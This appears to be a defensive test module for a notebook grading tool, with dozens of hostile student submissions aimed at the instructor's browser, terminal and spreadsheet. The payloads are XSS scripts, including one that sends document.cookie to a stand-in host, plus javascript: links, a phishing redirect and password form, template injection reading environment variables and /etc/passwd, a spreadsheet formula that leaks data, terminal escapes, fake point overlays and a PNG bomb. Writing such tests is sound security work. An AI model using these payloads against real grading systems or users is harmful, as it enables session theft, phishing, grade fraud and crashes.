"""What would do harm where it is shown: in the instructor's browser, terminal or spreadsheet, in the feedback page."""

from __future__ import annotations

import base64
import struct
import zlib
from pathlib import Path
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_output

from tests.submissions import FULL, add_code, graded, handed_in, solution, submission

SCRIPT = "<script>document.title = 'taken over'; fetch('https://example.invalid/' + document.cookie)</script>"


def _with_outputs(folder: Path, notebook: NotebookNode, **data: Any) -> None:
    """The solved notebook with such outputs under every code cell; keys are MIME types with _ for / ."""
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                new_output("display_data", data={kind.replace("_", "/", 1): value for kind, value in data.items()})
            ]
    handed_in(notebook, folder)


def _with_answer(folder: Path, notebook: NotebookNode, answer: str) -> None:
    """The solved notebook with this written answer."""
    graded(notebook, "why_precise").source = answer
    handed_in(notebook, folder)


@submission(points=FULL)
def script_in_outputs(folder: Path, notebook: NotebookNode) -> None:
    """HTML and JavaScript outputs that run where the notebook is shown."""
    _with_outputs(folder, notebook, text_html=SCRIPT, application_javascript="document.title = 'taken over'")


@submission(points=FULL)
def frame_in_outputs(folder: Path, notebook: NotebookNode) -> None:
    """An output with a frame that loads another page."""
    _with_outputs(folder, notebook, text_html='<iframe src="https://example.invalid/" style="width:100%"></iframe>')


@submission(points=FULL)
def script_in_a_picture(folder: Path, notebook: NotebookNode) -> None:
    """An SVG picture with a script."""
    picture = f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1">{SCRIPT}</svg>'
    _with_outputs(folder, notebook, **{"image_svg+xml": picture})


@submission(points=FULL)
def script_in_latex(folder: Path, notebook: NotebookNode) -> None:
    """A formula whose macro calls itself, and one with a link to a script."""
    _with_outputs(folder, notebook, text_latex=r"$\def\x{\x\x}\x \href{javascript:alert(1)}{click}$")


@submission(points=FULL)
def script_in_an_answer(folder: Path, notebook: NotebookNode) -> None:
    """A written answer with a script and pictures that run one when they fail."""
    _with_answer(folder, notebook, f"My answer. {SCRIPT} <img src=x onerror='document.title=1'>")


@submission(points=FULL)
def script_behind_a_link(folder: Path, notebook: NotebookNode) -> None:
    """A written answer with links to scripts, in several spellings."""
    _with_answer(
        folder,
        notebook,
        "[my sources](javascript:alert(1)) [more](JaVaScRiPt&colon;alert(1)) [data](data:text/html,<script>alert(1)</script>) "
        "![picture](javascript:alert(1)) <a href=' javascript:alert(1)'>here</a>",
    )


@submission(points=FULL)
def page_turned_away(folder: Path, notebook: NotebookNode) -> None:
    """A written answer that sends the reader to another page and asks for a password there."""
    _with_answer(
        folder,
        notebook,
        '<meta http-equiv="refresh" content="0;url=https://example.invalid/"><base href="https://example.invalid/">'
        '<form action="https://example.invalid/"><input name="password"></form>',
    )


@submission(points=FULL)
def points_painted_over(folder: Path, notebook: NotebookNode) -> None:
    """A written answer that closes the page's elements and paints its own points over the true ones."""
    _with_answer(
        folder,
        notebook,
        "</pre></div></textarea></script><style>* {visibility: hidden} .mine {visibility: visible}</style>"
        '<h1 class="mine">22 of 22 points</h1><div style="position:fixed;inset:0"></div>',
    )


@submission(points=FULL)
def template_in_an_answer(folder: Path, notebook: NotebookNode) -> None:
    """A written answer in the language of page templates."""
    _with_answer(
        folder, notebook, "{{ 7 * 7 }} {{ cycler.__init__.__globals__.os.environ }} {% include '/etc/passwd' %} ${7*7}"
    )


@submission(points=FULL)
def formula_in_an_answer(folder: Path, notebook: NotebookNode) -> None:
    """A written answer that a spreadsheet takes for a formula."""
    _with_answer(folder, notebook, '=HYPERLINK("https://example.invalid/?x="&A1, "see here")')


@submission(points=FULL)
def very_long_answer(folder: Path, notebook: NotebookNode) -> None:
    """A written answer of 5 MB, in 2,000 nested quotations."""
    _with_answer(folder, notebook, "> " * 2_000 + "Because. " * 550_000)


@submission(points=FULL)
def attachments(folder: Path, notebook: NotebookNode) -> None:
    """Attachments with names that lead out of a folder, one of them HTML."""
    page = base64.b64encode(SCRIPT.encode()).decode()
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            cell.attachments = {"../../../x.html": {"text/html": page}, "y.svg": {"image/svg+xml": page}}
    handed_in(notebook, folder)


@submission(points=FULL)
def script_in_a_heading(folder: Path, notebook: NotebookNode) -> None:
    """Scripts in the notebook's title, authors, cell ids, tags and a markdown cell."""
    notebook.metadata.update(title=SCRIPT, authors=[{"name": SCRIPT}])
    notebook.cells.insert(0, new_markdown_cell("# " + SCRIPT, id="script", metadata={"tags": [SCRIPT], "name": SCRIPT}))
    notebook.cells[0]["id"] = SCRIPT
    handed_in(notebook, folder)


@submission(points=FULL)
def script_while_grading(folder: Path, notebook: NotebookNode) -> None:
    """A cell shows HTML and JavaScript when it is run by the grader."""
    add_code(
        notebook,
        "setup",
        f"""
        from IPython.display import HTML, Javascript, display
        display(HTML({SCRIPT!r}), Javascript("document.title = 1"))
        print({SCRIPT!r})
        """,
    )
    handed_in(notebook, folder)


@submission(points=FULL - 3)
def script_in_a_result(folder: Path, notebook: NotebookNode) -> None:
    """A function returns HTML, which stands in the message of the failed check."""
    solution(notebook, "parse_ticket").source = f"def parse_ticket(*args, **kwargs):\n    return {SCRIPT!r}"
    handed_in(notebook, folder)


@submission(points=FULL - 3)
def script_in_an_error(folder: Path, notebook: NotebookNode) -> None:
    """A function raises an error whose name and message are HTML and terminal codes."""
    solution(notebook, "parse_ticket").source = f"""def parse_ticket(*args, **kwargs):
    raise type({SCRIPT!r}, (ValueError,), {{}})("</pre>" + {SCRIPT!r} + "\\x1b]0;taken over\\x07\\x1b[2J")"""
    handed_in(notebook, folder)


@submission(points=FULL)
def terminal_codes(folder: Path, notebook: NotebookNode) -> None:
    """Outputs, an answer and prints that clear a terminal and rename its window."""
    codes = "\x1b[2J\x1b[1;1H\x1b]0;taken over\x07\x1b[31;5m18 of 18\x1b[0m\r\x08"
    add_code(notebook, "setup", f"print({codes!r})").outputs = [new_output("stream", text=codes)]
    _with_answer(folder, notebook, codes)


@submission(points=FULL)
def large_output(folder: Path, notebook: NotebookNode) -> None:
    """Outputs of 40 MB, as pictures and animations make: below the limit of a submission."""
    cell = graded(notebook, "setup")
    cell.outputs = [new_output("display_data", data={"image/png": "A" * 40_000_000})]
    handed_in(notebook, folder)


@submission(points=FULL)
def picture_bomb(folder: Path, notebook: NotebookNode) -> None:
    """A PNG of a few bytes that claims 50,000 by 50,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    picture = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )
    _with_outputs(folder, notebook, image_png=base64.b64encode(picture).decode())


@submission(points=FULL)
def lone_surrogates(folder: Path, notebook: NotebookNode) -> None:
    """Half characters, which no UTF-8 file can hold, in a cell, an output, an answer and the metadata."""
    notebook.metadata.title = "\ud800"
    add_code(notebook, "setup", "text = '\ud83d'  # half an emoji").outputs = [new_output("stream", text="\udfff")]
    _with_answer(folder, notebook, "Because \udcff.")


@submission(points=FULL - 3)
def lone_surrogate_returned(folder: Path, notebook: NotebookNode) -> None:
    """A function returns and prints half a character."""
    solution(
        notebook, "parse_ticket"
    ).source = "def parse_ticket(*args, **kwargs):\n    print('\\ud800')\n    return '\\ud800'"
    handed_in(notebook, folder)


@submission(points=FULL)
def nul_characters(folder: Path, notebook: NotebookNode) -> None:
    """NUL characters in a cell, which Python refuses, in an output and in the answer."""
    add_code(notebook, "setup", "x = 1\0").outputs = [new_output("stream", text="\0\x01\x02")]
    _with_answer(folder, notebook, "Be\0cause.")


@submission(points=FULL)
def text_turned_round(folder: Path, notebook: NotebookNode) -> None:
    """An answer and outputs with marks that turn the direction of writing, hide and pile up characters."""
    turned = "\u202e81 fo 0\u202c\u200b\ufeff" + "a" + "\u0301" * 2_000
    add_code(notebook, "setup", "x = 1").outputs = [new_output("stream", text=turned)]
    _with_answer(folder, notebook, turned)


@submission(points=FULL)
def widget_state(folder: Path, notebook: NotebookNode) -> None:
    """The saved state of 5,000 widgets, one of them with a script."""
    widget = {
        "model_module": "@jupyter-widgets/controls",
        "model_name": "HTMLModel",
        "state": {"value": SCRIPT, "x": "x" * 500},
    }
    state = {f"{number:032x}": widget for number in range(5_000)}
    notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2, "version_minor": 0}
    }
    handed_in(notebook, folder)


@submission(points=FULL)
def nested_metadata(folder: Path, notebook: NotebookNode) -> None:
    """Metadata nested 200 deep."""
    nested: dict[str, Any] = {}
    for _ in range(200):
        nested = {"deeper": nested}
    notebook.metadata.extra = nested
    handed_in(notebook, folder)


@submission(points=FULL)
def outputs_of_no_kind(folder: Path, notebook: NotebookNode) -> None:
    """Outputs that are no outputs: a number, a text, an unknown type, not a number."""
    for cell, outputs in zip(
        [cell for cell in notebook.cells if cell.cell_type == "code"],
        [5, "text", None, [None], [{"output_type": "hologram"}], [{"output_type": "stream", "text": float("nan")}]],
        strict=False,
    ):
        cell.outputs = outputs
    handed_in(notebook, folder)
